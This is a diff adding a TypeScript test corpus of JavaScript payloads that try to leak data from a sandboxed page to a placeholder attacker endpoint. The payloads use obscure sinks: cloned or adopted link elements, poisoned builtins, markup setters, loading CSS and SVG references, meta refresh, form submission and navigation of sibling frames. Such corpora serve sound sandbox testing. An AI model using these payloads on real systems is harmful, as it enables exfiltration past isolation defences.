@@ -1,0 +1,133 @@
+import type { Attack } from "../support/attack.ts";
+
+/** Ways to a connection that lie beside those that everybody thinks of. */
+export const sinkAttacks: readonly Attack[] = [
+  {
+    id: "template-clone",
+    title: "a link that a template's markup makes, cloned",
+    code: String.raw`const t=document.createElement('template');t.innerHTML='<link rel=preconnect href="http://{{TCP}}">';document.head.append(document.importNode(t.content,true))`,
+    signs: ["egress"],
+  },
+  {
+    id: "other-document",
+    title: "a link made by another document, adopted",
+    code: String.raw`const d=document.implementation.createHTMLDocument('');d.body.innerHTML='<link rel=preconnect href="http://{{TCP}}">';document.head.append(document.adoptNode(d.body.firstChild))`,
+    signs: ["egress"],
+  },
+  {
+    id: "foreign-document",
+    title: "a link as the root of a new XML document",
+    code: String.raw`const X='http://www.w3.org/1999/xhtml',d=document.implementation.createDocument(X,'x:link',null);const e=d.documentElement;e.setAttribute('rel','preconnect');e.setAttribute('href','http://{{TCP}}');document.head.append(e)`,
+    signs: ["egress"],
+  },
+  {
+    id: "two-faced-name",
+    title: "a name that is div when it is looked at and link when it is used",
+    code: String.raw`let n=0;const e=document.createElement({toString:()=>n++?'link':'div'});e.setAttribute('rel','preconnect');e.setAttribute('href','http://{{TCP}}');document.head.append(e);n=0;const s={toString:()=>n++?'<link rel=preconnect href="http://{{TCP}}">':'<p>'};document.body.insertAdjacentHTML('beforeend',s);document.body.lastElementChild.innerHTML=s;document.createRange().createContextualFragment(s)`,
+    signs: ["egress"],
+    powerless: "a browser reads the name once",
+  },
+  {
+    id: "two-faced-type",
+    title: "an entity that becomes a link, in a document whose type changes between two looks",
+    code: String.raw`let n=0;const type={toString:()=>n++?'application/xhtml+xml':'text/html'};const x='<!DOCTYPE r [<!ENTITY l "&#60;x:l'+'ink rel=\'preconnect\' href=\'http://{{TCP}}\'/>">]><r xmlns:x="http://www.w3.org/1999/xhtml">&l;</r>';for(const t of [type,'application/xhtml+xml','text/xml','image/svg+xml'])try{const d=new DOMParser().parseFromString(x,t);for(const e of [...d.documentElement.children])document.head.append(document.adoptNode(e))}catch(e){}`,
+    signs: ["egress"],
+  },
+  {
+    id: "poisoned-builtins",
+    title: "builtins replaced, so that a look at names and markup sees nothing",
+    code: String.raw`const keep=RegExp.prototype.exec;RegExp.prototype.exec=()=>null;RegExp.prototype.test=()=>false;String.prototype.toLowerCase=()=>'div';String.prototype.lastIndexOf=()=>-1;String.prototype.slice=()=>'div';Object.defineProperty(Array.prototype,'0',{set(v){Object.defineProperty(this,'0',{value:v==='div'?'link':v,writable:true,configurable:true,enumerable:true})},configurable:true});try{document.head.insertAdjacentHTML('beforeend','<link rel=preconnect href="http://{{TCP}}">')}catch(e){}try{const e=document.createElement('link');e.setAttribute('rel','preconnect');e.setAttribute('href','http://{{TCP}}');document.head.append(e)}catch(e){}RegExp.prototype.exec=keep;delete Array.prototype[0]`,
+    signs: ["egress"],
+    ownTile: true,
+  },
+  {
+    id: "element-constructors",
+    title: "the constructors of elements: Reflect.construct, customized built-in elements, registries",
+    code: String.raw`const use=e=>{e.setAttribute('rel','preconnect');e.setAttribute('href','http://{{TCP}}');document.head.append(e)};for(const f of [()=>Reflect.construct(HTMLElement,[],HTMLLinkElement),()=>{class L extends HTMLLinkElement{}customElements.define('x-l'+Math.random().toString(36).slice(2),L,{extends:'link'});return new L()},()=>new HTMLLinkElement(),()=>document.createElement('link',{is:'x-l'}),()=>{const r=new CustomElementRegistry();class L extends HTMLLinkElement{}r.define('x-m',L,{extends:'link'});return new L()}])try{use(f())}catch(e){}`,
+    signs: ["egress"],
+  },
+  {
+    id: "html-setters",
+    title: "every other setter and parser of markup that the browser has",
+    code: String.raw`const m='<link rel=preconnect href="http://{{TCP}}">',d=document.createElement('div');document.body.append(d);const s=d.attachShadow({mode:'open'});const tries=[()=>d.setHTMLUnsafe(m),()=>d.setHTML(m,{sanitizer:{}}),()=>s.setHTMLUnsafe(m),()=>{s.innerHTML=m},()=>{d.outerHTML=m},()=>document.head.append(...Document.parseHTMLUnsafe(m).head.children),()=>document.head.append(...Document.parseHTML(m).head.children),()=>document.head.append(document.createRange().createContextualFragment(m)),()=>document.head.append(...new DOMParser().parseFromString(m,'text/html').head.children),()=>{document.head.innerHTML+=m}];for(const o of [d,s,document,document.head])for(let p=o;p;p=Object.getPrototypeOf(p))for(const k of Object.getOwnPropertyNames(p))if(/HTML|Markup|stream/i.test(k)&&!/^(set|inner|outer|parse|get)/.test(k))tries.push(()=>typeof o[k]==='function'&&o[k](m));for(const f of tries)try{f()}catch(e){}`,
+    signs: ["egress"],
+    ownTile: true,
+  },
+  {
+    id: "css-of-every-kind",
+    title:
+      "properties of CSS that load: image-set, cursor, masks, markers, borders, shapes, filters, content",
+    code: String.raw`const u='{{E}}/x/{{T}}';const e=document.createElement('li');e.textContent='x';document.body.append(e);for(const [k,v] of [['background-image','image-set("'+u+'-a" 1x)'],['cursor','url('+u+'-b),auto'],['mask-image','url('+u+'-c)'],['list-style-image','url('+u+'-d)'],['border-image-source','url('+u+'-e)'],['shape-outside','url('+u+'-f)'],['filter','url('+u+'-g#a)'],['content','url('+u+'-h)'],['clip-path','url('+u+'-i#a)'],['background-image','cross-fade(url('+u+'-j),url('+u+'-k),50%)'],['offset-path','url('+u+'-l#a)']]){const c=e.cloneNode(true);document.body.append(c);c.style.setProperty(k,v)}`,
+    signs: ["egress"],
+  },
+  {
+    id: "css-sheets",
+    title: "style sheets: @import, layers, constructed ones with an address of their own",
+    code: String.raw`const s=document.createElement('style');s.textContent='@import url({{E}}/css/{{T}}-a) layer(x);@import "{{E}}/css/{{T}}-b" supports(display:grid);@property --u{syntax:"<url>";inherits:false;initial-value:url({{E}}/x/{{T}}-p)}b{background:var(--u)}';document.head.append(s);document.body.append(document.createElement('b'));const c=new CSSStyleSheet({baseURL:'{{E}}/x/{{T}}/'});c.replaceSync('body{background:url(constructed.png)}');document.adoptedStyleSheets=[c]`,
+    signs: ["egress"],
+    ownTile: true,
+  },
+  {
+    id: "svg-references",
+    title: "references of SVG to other files: gradients, patterns, markers, masks, animated addresses",
+    code: String.raw`const u='{{E}}/svg/{{T}}';document.body.insertAdjacentHTML('beforeend','<svg width=90 height=90><rect fill="url('+u+'-f#a)" stroke="url('+u+'-s#a)" mask="url('+u+'-m#a)" clip-path="url('+u+'-c#a)" filter="url('+u+'-x#a)" width=9 height=9 /><use href="'+u+'-u#a"/><textPath href="'+u+'-t#a"/><image width=9 height=9><animate attributeName=href values="'+u+'-an" dur=1s fill=freeze /><set attributeName=href to="'+u+'-set"/></image><path marker-end="url('+u+'-k#a)" d="M0 0L9 9"/></svg>')`,
+    signs: ["egress"],
+  },
+  {
+    id: "lazy-and-responsive",
+    title: "pictures that load late: lazy ones, srcset of an image object, sizes that change",
+    code: String.raw`const i=new Image();i.srcset='{{E}}/x/{{T}}-a 1x';i.loading='eager';const l=document.createElement('img');l.loading='lazy';l.src='{{E}}/x/{{T}}-l';document.body.append(l);const p=document.createElement('img');p.sizes='1px';p.srcset='{{E}}/x/{{T}}-s 1w';document.body.append(p);i.decode().catch(()=>{})`,
+    signs: ["egress"],
+  },
+  {
+    id: "inputs-and-old-tags",
+    title: "image inputs, old attributes, and tags that nobody uses",
+    code: String.raw`const u='{{E}}/x/{{T}}';document.body.insertAdjacentHTML('beforeend','<input type=image src="'+u+'-i"><image src="'+u+'-im"></image><video src="'+u+'-v"></video><audio src="'+u+'-au" autoplay></audio><td background="'+u+'-td"></td><bgsound src="'+u+'-bg"><svg><style>*{background:url('+u+'-st)}</style></svg>')`,
+    signs: ["egress"],
+  },
+  {
+    id: "shadow-root",
+    title: "a declarative shadow root with a style sheet and pictures in it",
+    code: String.raw`const d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe('<p><template shadowrootmode=open><style>:host{background:url({{E}}/x/{{T}}-h)}</style><img src="{{E}}/x/{{T}}-i"></template></p>')`,
+    signs: ["egress"],
+  },
+  {
+    id: "meta-refresh",
+    title: "a refresh that a meta element asks for",
+    code: String.raw`document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content="0;url={{E}}/html/{{T}}?secret">')`,
+    signs: ["egress"],
+    ownTile: true,
+  },
+  {
+    id: "areas-and-svg-links",
+    title: "links of image maps, SVG and MathML, followed by code",
+    code: String.raw`document.body.insertAdjacentHTML('beforeend','<map name=m><area id=ar href="{{E}}/html/{{T}}-area" shape=default></map><svg><a id=sv href="{{E}}/html/{{T}}-svg"><text>x</text></a></svg>');for(const q of ['#ar','#sv']){const e=document.querySelector(q);e.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true}));if(e.click)e.click()}`,
+    signs: ["egress"],
+    ownTile: true,
+  },
+  {
+    id: "click-with-keys",
+    title: "links in a new tab or window, by keys, targets and relations",
+    code: String.raw`document.body.innerHTML='<a id=a href="{{E}}/html/{{T}}" target=_blank rel=opener style="position:fixed;inset:0">x</a>';const a=document.querySelector('#a');for(const k of [{},{ctrlKey:true},{shiftKey:true},{metaKey:true}])a.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true,button:0,...k}))`,
+    signs: ["popup", "egress"],
+    ownTile: true,
+    click: true,
+  },
+  {
+    id: "form-of-others",
+    title: "forms that a button with formaction, a label or Enter sends",
+    code: String.raw`document.body.innerHTML='<form id=f><input name=d value=secret><button id=b formaction="{{E}}/html/{{T}}" formtarget=_self style="position:fixed;inset:0">x</button></form>';document.querySelector('#b').click()`,
+    signs: ["egress"],
+    ownTile: true,
+    click: true,
+    stoppedBySandbox: true,
+  },
+  {
+    id: "sibling-navigation",
+    title: "another widget's frame, sent to the attacker's page",
+    code: String.raw`setInterval(()=>{for(let i=0;i<parent.frames.length;i++)try{if(parent.frames[i]!==self)parent.frames[i].location='{{E}}/html/{{T}}'}catch(e){}},150)`,
+    signs: ["egress"],
+    twice: true,
+    stoppedBySandbox: true,
+  },
+];
